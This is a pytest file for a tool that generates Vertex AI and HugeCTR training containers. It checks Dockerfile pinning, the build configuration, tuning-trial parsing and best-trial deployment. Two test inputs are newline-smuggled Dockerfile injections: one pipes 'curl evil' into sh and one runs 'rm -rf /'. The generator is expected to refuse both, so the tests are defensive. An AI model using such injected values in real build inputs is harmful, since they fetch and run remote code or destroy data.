    docker = (VERTEX / "vertex" / "Dockerfile").read_text().splitlines()
    instructions = [ln for ln in docker if ln and not ln.startswith("#")]
    assert instructions[0] == "FROM nvcr.io/nvidia/merlin/merlin-training:22.04"
    pin = next(ln for ln in (REPO / "requirements" / "constraints.txt").read_text().splitlines()
               if ln.startswith("cloudml-hypertune=="))
    assert f"RUN pip install --no-cache-dir {pin}" in instructions
    assert instructions.index("WORKDIR /src") < instructions.index("COPY task.py ./")
    build = yaml.safe_load((VERTEX / "vertex" / "cloudbuild.yaml").read_text())
    assert build["steps"] == [{"name": "gcr.io/cloud-builders/docker", "args": [   # substitutions: tests/test_seeds.py
        "build", "-t", "$_IMAGE_URI", "$_FILE_LOCATION", "-f", "$_FILE_LOCATION/vertex/Dockerfile"]}]
    assert build["images"] == ["$_IMAGE_URI"]
    assert (build["timeout"], build["options"]["machineType"]) == ("7200s", "E2_HIGHCPU_8")


@pytest.mark.parametrize("image,ok", [("nvcr.io/nvidia/merlin/merlin-hugectr:23.06", True),
                                      ("nvcr.io/nvidia/merlin/merlin-hugectr@sha256:" + "ab" * 32, True),
                                      ("nvcr.io/nvidia/merlin/merlin-hugectr:latest", False),
                                      ("nvcr.io/nvidia/merlin/merlin-hugectr", False),
                                      ("img:1\nRUN curl evil | sh", False)])
def test_base_image_must_be_pinned(tmp_path, image, ok):
    proc = _generate(_variant(tmp_path, "deepfm_vertex", lambda d: d["vertex"].update(base_image=image)),
                     tmp_path / "out")
    if ok:
        assert proc.returncode == 0, proc.stderr
        assert f"FROM {image}\n" in (tmp_path / "out" / "deepfm_vertex" / "vertex" / "Dockerfile").read_text()
    else:
        _error(proc, "vertex.base_image")
        assert not (tmp_path / "out").exists()


def test_image_uri_with_a_newline_is_refused(tmp_path):
    proc = _generate(_variant(tmp_path, "deepfm_vertex",
                              lambda d: d["vertex"].update(image_uri="gcr.io/p/x\nRUN rm -rf /")), tmp_path / "out")
    _error(proc, "vertex.image_uri")


def _tuning_job(tmp_path: Path) -> Path:
    """A finished tuning job as `gcloud ai hp-tuning-jobs describe --format=json` prints it (REST JSON, camelCase):
    four trials, one infeasible, one without a final measurement."""
    def trial(i, state, auc, lr, dropout):
        t = {"id": str(i), "state": state, "parameters": [{"parameterId": "dropout_rate", "value": dropout},
                                                           {"parameterId": "lr", "value": lr}]}
        if auc is not None:
            t["finalMeasurement"] = {"stepCount": "25000", "metrics": [{"metricId": "AUC", "value": auc}]}
        return t
    doc = {"name": "projects/895/locations/us-central1/hyperparameterTuningJobs/77",
           "displayName": "hugectr-deepfm-v01-tuning", "state": "JOB_STATE_SUCCEEDED",
           "studySpec": {"metrics": [{"metricId": "AUC", "goal": "MAXIMIZE"}]},
           "trialJobSpec": {"baseOutputDirectory": {"outputUriPrefix": "gs://bkt/hugectr-deepfm-v01/j1"}},
           "trials": [trial(1, "SUCCEEDED", 0.7912, 0.0021, 0.5), trial(2, "SUCCEEDED", 0.8011, 0.0047, 0.4),
                      trial(3, "INFEASIBLE", None, 0.0093, 0.6), trial(4, "SUCCEEDED", 0.7650, 0.0011, 0.6)],
           "someFieldOfALaterApi": 1}
    path = tmp_path / "job.json"
    path.write_text(json.dumps(doc))
    return path


@VERTEX_SDK
@pytest.mark.slow
def test_trials_lists_each_trial_and_names_the_best(tmp_path):
    job = _tuning_job(tmp_path)
    proc = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(job), "--save",
                    str(tmp_path / "saved.json"), env={})
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0].split() == ["trial", "state", "AUC", "dropout_rate", "lr"]
    assert lines[1].split() == ["1", "SUCCEEDED", "0.791200", "0.5", "0.0021"]
    assert lines[3].split() == ["3", "INFEASIBLE", "-", "0.6", "0.0093"]
    assert lines[-1] == "best: trial 2 (AUC 0.801100)"
    # What --save wrote reads back to the same table.
    again = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(tmp_path / "saved.json"), env={})
    assert again.stdout == proc.stdout
    # Minimizing picks the lowest.
    doc = json.loads(job.read_text())
    doc["studySpec"]["metrics"][0]["goal"] = "MINIMIZE"
    job.write_text(json.dumps(doc))
    proc = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(job), env={})
    assert proc.stdout.splitlines()[-1] == "best: trial 4 (AUC 0.765000)"
    bad = tmp_path / "bad.json"
    bad.write_text("[1, 2")
    proc = _py_here(VERTEX / "vertex" / "submit.py", "trials", "--from-json", str(bad), env={})
    assert proc.returncode == 2 and "not a tuning job's description" in proc.stderr


@VERTEX_SDK
@pytest.mark.slow
def test_deploy_best_trial_assembles_its_weights(tmp_path):
    """deploy --trial best runs `ctrgen assemble` on <output>/<best trial id>/model under the FUSE mount."""
    from demo_data import built_demo

    job = _tuning_job(tmp_path)
    model = tmp_path / "gcs" / "bkt" / "hugectr-deepfm-v01" / "j1" / "2" / "model"
    ps = json.loads((VERTEX / "triton" / "ps.json").read_text())["models"][0]
    model.mkdir(parents=True)
    (model / Path(ps["dense_file"]).name).write_bytes(b"\0" * 8)
    for sparse in ps["sparse_files"]:
        (model / Path(sparse).name).mkdir()
        for part in ("key", "emb_vector"):
            (model / Path(sparse).name / part).write_bytes(b"")
    workflow = built_demo().paths["criteo"]["workflow"]
    proc = _py_here(VERTEX / "vertex" / "submit.py", "deploy", "--from-json", str(job), "--gcs-root",
                    str(tmp_path / "gcs"), "--workflow", str(workflow), "--out", str(tmp_path / "repo"),
                    "--spec", str(REPO / "specs" / "deepfm_vertex.yaml"), env={"PYTHONPATH": str(REPO)})
    assert proc.returncode == 0, proc.stderr
    assert f"trial 2 (AUC 0.801100): {model}" in proc.stdout
    served = tmp_path / "repo" / "deepfm_vertex" / "1"
    assert (served / Path(ps["dense_file"]).name).read_bytes() == b"\0" * 8
    # An unknown trial is one line.
    proc = _py_here(VERTEX / "vertex" / "submit.py", "deploy", "--trial", "9", "--from-json", str(job),
                    "--workflow", str(workflow), "--out", str(tmp_path / "r2"), env={})
    assert proc.returncode == 2 and "--trial '9': the job has trials ['1', '2', '3', '4']" in proc.stderr
